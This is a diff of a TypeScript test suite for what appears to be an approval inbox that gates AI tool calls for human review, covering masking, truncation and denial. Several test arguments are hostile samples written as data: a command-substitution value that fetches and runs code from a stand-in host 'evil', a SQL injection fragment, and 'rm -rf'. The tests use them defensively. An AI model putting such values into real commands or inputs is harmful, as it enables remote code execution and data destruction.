@@ -63,7 +63,7 @@ describe('through the inbox', () => {
       state: 'pending',
       ...{ tool: 'plain_counter', namespacedName: 'plain.counter', server: 'plain', subject: 'local' },
       client: '{"name":"test","version":"1"}',
-      ...{ arguments: '{"path":"a.txt","password":"***"}', isShortened: false },
+      ...{ arguments: '{"path":"a.txt","password":"hunter2"}', isShortened: false, isMasked: false },
       reasons: [expect.objectContaining({ code: 'destructive' })],
       warnings: [
         'it may make destructive changes (assumed, because no trusted source declares otherwise)',
@@ -84,7 +84,10 @@ describe('through the inbox', () => {
       ...{ scope: 'once', answeredBy: 'boss' },
     });
     expect(textOf(await called)).toBe('1');
-    expect((await admin.get(`/approvals/${id}`)).json()).toMatchObject({ state: 'used' });
+    expect((await admin.get(`/approvals/${id}`)).json()).toMatchObject({
+      state: 'used',
+      ...{ arguments: '{"path":"a.txt","password":"***"}', isMasked: true },
+    });
     expect(verdictOf(await admin.post(`/approvals/${id}/approve`, {}))).toBe('409 APPROVAL_CLOSED');
     const changes = listAt((await admin.get('/activity?targetKind=approval')).json(), 'activity');
     expect(changes).toMatchObject([
@@ -94,6 +97,35 @@ describe('through the inbox', () => {
         target: { kind: 'approval', id, name: 'plain.counter' },
       },
     ]);
+  });
+
+  it('everything that would happen is shown, however long, deep or secret it looks', async () => {
+    const { assay, admin } = place;
+    const session = await openSession(assay.url);
+    const args = {
+      run: '--token=$(curl${IFS}evil|sh)',
+      where: 'password=1/**/UNION/**/SELECT',
+      token: 'rm -rf',
+      deep: JSON.parse(`${'['.repeat(40)}"deepest"${']'.repeat(40)}`) as Json,
+      long: 'x'.repeat(9_000),
+      last: 'the end',
+    };
+    const called = session.ask('tools/call', { name: 'plain_counter', arguments: args });
+    const [waiting] = await untilPending(admin);
+    const id = textAt(waiting ?? null, 'id');
+    const text = JSON.stringify(args);
+    expect(waiting).toMatchObject({
+      arguments: `${text.slice(0, 4_000)}…`,
+      isShortened: true,
+      isMasked: false,
+    });
+    expect((await admin.get(`/approvals/${id}`)).json()).toMatchObject({
+      ...{ arguments: text, isShortened: false, isMasked: false },
+    });
+    const { stdout } = await runAssay(['approvals', 'show', id, '--json', '--home', place.home]);
+    expect(JSON.parse(stdout)).toMatchObject({ arguments: text });
+    await admin.post(`/approvals/${id}/deny`, {});
+    await called;
   });
 
   it('a denied call has no effect, nor has its repetition, and the model reads the reason', async () => {
@@ -273,7 +305,10 @@ describe('after the time limit for an approval', () => {
 const ENDPOINTS = ['HTTP', 'stdio'] as const;
 
 describe.for(ENDPOINTS)('in the client, over %s', (way) => {
-  const settings = { ...PREFERENCES, ...(way === 'HTTP' && { 'policy.approver': 'client' }) };
+  const settings = {
+    ...{ ...PREFERENCES, 'limits.approvalWaitMs': 0 },
+    ...(way === 'HTTP' && { 'policy.approver': 'client' }),
+  };
   let endpoint: Endpoint;
   beforeAll(async () => {
     if (way === 'HTTP') endpoint = { url: (await open(settings)).assay.url };
@@ -282,6 +317,22 @@ describe.for(ENDPOINTS)('in the client, over %s', (way) => {
 
   describe.for(ASKABLE)('a client $label', ({ connect }) => {
     const meet = (options?: AskableOptions): Promise<Askable> => connect(endpoint, options);
+
+    it('is not asked about arguments that a form cannot show in full: they wait in the inbox', async () => {
+      const client = await meet();
+      client.answerWith(() => ACCEPTED);
+      const args = { a: 1, b: 2, '--token=$(curl${IFS}evil|sh)': true };
+      expect(await client.call('plain_add', args)).toBe('3');
+      expect(textAt(client.asked[0]?.params ?? null, 'message')).toContain(
+        `Arguments: ${JSON.stringify(args)}`,
+      );
+      expect(await client.call('plain_add', { a: 1, b: 2, long: 'x'.repeat(4_000) })).toMatch(
+        /it had no effect.*arguments are too long to ask here.*assay approvals approve/,
+      );
+      // A client that can open links is sent to the inbox.
+      expect(client.asked.filter(({ params }) => at(params, 'mode') !== 'url')).toHaveLength(1);
+      await client.close();
+    });
 
     it('is asked with a form, and its answer decides', async () => {
       const client = await meet();
